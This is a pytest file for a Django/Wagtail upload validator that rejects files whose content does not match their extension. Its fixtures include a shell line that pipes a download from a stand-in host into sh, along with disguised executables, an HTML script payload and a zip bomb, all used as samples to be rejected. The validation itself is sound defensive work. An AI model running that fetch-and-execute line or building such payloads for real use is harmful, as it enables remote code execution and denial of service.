"""A file is what its name says, or it isn't taken."""

import io
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from home.file_contents import CHECKS, is_what_it_says
from home.models import SiteDocument
from home.text import NBSP
from tests import factories
from tests.reading import source

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04" + bytes(range(256)) * 20
SCRIPT = b"#!/bin/sh\ncurl https://zlo.example/ | sh\n"


def archive(**files: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return stream.getvalue()


def office(main: str) -> bytes:
    override = f'<Override PartName="/x" ContentType="application/vnd.{main}.main+xml"/>'
    return archive(**{"[Content_Types].xml": f"<Types>{override}</Types>".encode(), "x": b"<x/>"})


HONEST = {
    "csv": "imię;miejsce\nŁucja;Dębniki\n".encode("cp1250"),
    "docx": office("openxmlformats-officedocument.wordprocessingml.document"),
    "epub": archive(mimetype=b"application/epub+zip"),
    "ics": b"\xef\xbb\xbfBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
    "odp": archive(mimetype=b"application/vnd.oasis.opendocument.presentation"),
    "ods": archive(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
    "odt": archive(mimetype=b"application/vnd.oasis.opendocument.text"),
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    "pptx": office("openxmlformats-officedocument.presentationml.presentation"),
    "rtf": rb"{\rtf1\ansi Regulamin}",
    "txt": "Zażółć gęślą jaźń".encode("utf-16"),
    "xlsx": office("openxmlformats-officedocument.spreadsheetml.sheet"),
    "zip": archive(**{"zdjecia/1.txt": b"x"}),
}
LIES = {
    **{f"a program as {extension}": (extension, PROGRAM) for extension in HONEST},
    **{f"a script as {extension}": (extension, SCRIPT) for extension in HONEST if extension not in ("csv", "txt")},
    "a program with an archive at its end": ("zip", PROGRAM + HONEST["zip"]),
    "a program with a document at its end": ("docx", PROGRAM + HONEST["docx"]),
    "a program with PDF inside": ("pdf", PROGRAM[:64] + HONEST["pdf"]),
    "an archive as a document": ("docx", HONEST["zip"]),
    "a document as a spreadsheet": ("xlsx", HONEST["docx"]),
    "OpenDocument as Word": ("docx", HONEST["odt"]),
    "macros": ("docx", office("ms-word.document.macroEnabled")),
    "half an archive": ("docx", HONEST["docx"][:60]),
    "a web page as PDF": ("pdf", b"<html><script>alert(1)</script></html>"),
    "a program that begins as text of two bytes": ("txt", b"\xff\xfe" + PROGRAM),
    "half a letter of two bytes": ("csv", HONEST["txt"] + b"x"),
    "half a pair of two bytes": ("csv", HONEST["txt"] + b"\x00\xd8"),
    "a PDF as text": ("txt", HONEST["pdf"] + b"\x00\x01"),
}


def test_every_type_that_may_be_added_is_known() -> None:
    assert set(CHECKS) == set(settings.WAGTAILDOCS_EXTENSIONS) == set(HONEST)


@pytest.mark.parametrize("extension", HONEST)
def test_an_honest_file_is_taken(extension: str) -> None:
    assert is_what_it_says(io.BytesIO(HONEST[extension]), extension)


@pytest.mark.parametrize(("extension", "content"), LIES.values(), ids=list(LIES))
def test_what_is_something_else_is_not(extension: str, content: bytes) -> None:
    assert not is_what_it_says(io.BytesIO(content), extension)


def test_an_archive_that_grows_beyond_measure_stays_packed() -> None:
    bomb = archive(**{"[Content_Types].xml": b" " * 300_000_000})
    assert not is_what_it_says(io.BytesIO(bomb), "docx")


@pytest.mark.django_db
class TestForms:
    def test_the_form_says_so_beside_the_field_and_keeps_what_was_written(self, admin_client):
        data = {"title": "Regulamin naboru", "language": "pl", "file": SimpleUploadedFile("regulamin.PDF", PROGRAM)}
        answer = admin_client.post("/admin/documents/add/", data)
        errors = answer.context["form"].errors["file"].as_data()
        assert [error.code for error in errors] == ["other-content"]
        assert str(errors[0].message).replace(NBSP, " ") in source(answer)
        assert "Regulamin naboru" in source(answer)
        assert not SiteDocument.objects.exists()

    def test_the_upload_of_many_says_so_and_goes_on(self, admin_client):
        answers = []
        for content in (PROGRAM, HONEST["pdf"]):
            data = {"title": "Regulamin", "files[]": SimpleUploadedFile("regulamin.pdf", content)}
            ajax = {"x-requested-with": "XMLHttpRequest"}
            answers.append(admin_client.post("/admin/documents/multiple/add/", data, headers=ajax).json())
        assert [answer["success"] for answer in answers] == [False, True]
        assert "pdf" in answers[0]["error_message"]

    def test_many_files_are_taken_at_once_in_the_language_of_the_last_one(self, admin_client):
        """Each was kept back before, until somebody had said its language in a form of its own."""
        for number, language in enumerate(("pl", "en")):
            data = {"title": f"Rules {number}", "files[]": SimpleUploadedFile("rules.pdf", HONEST["pdf"])}
            ajax = {"x-requested-with": "XMLHttpRequest"}
            answer = admin_client.post("/admin/documents/multiple/add/", data, headers=ajax).json()
            document = SiteDocument.objects.get(pk=answer["doc_id"])
            assert document.language == language
            SiteDocument.objects.update(language="en")
        form = admin_client.get("/admin/documents/add/").context["form"]
        assert form["language"].value() == "en"
        data = {"title": "Rules", "language": "", "file": SimpleUploadedFile("rules.pdf", HONEST["pdf"])}
        assert "language" in admin_client.post("/admin/documents/add/", data).context["form"].errors

    def test_other_words_for_a_file_of_before_are_no_new_file(self, admin_client):
        """Files that were added before their content was looked at can still be renamed."""
        document = factories.document()
        data = {"title": "Nowa nazwa", "language": "pl", "collection": document.collection_id, "tags": ""}
        admin_client.post(f"/admin/documents/edit/{document.pk}/", data)
        assert SiteDocument.objects.get().title == "Nowa nazwa"
